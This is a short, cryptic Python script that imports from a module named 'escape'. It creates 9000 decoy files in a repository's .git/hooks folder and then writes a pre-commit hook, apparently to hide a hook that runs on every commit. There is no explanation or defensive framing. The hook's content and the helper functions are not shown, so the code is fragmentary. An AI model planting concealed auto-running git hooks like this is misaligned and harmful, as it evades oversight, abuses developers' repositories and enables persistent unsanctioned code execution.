# plain: open
# process: undone
# namespace: held
from escape import *
def hide():
    for number in range(9000):
        os.close(os.open(f".git/hooks/{number}", os.O_CREAT))
    write(".git/hooks/pre-commit")
attempt(hide)
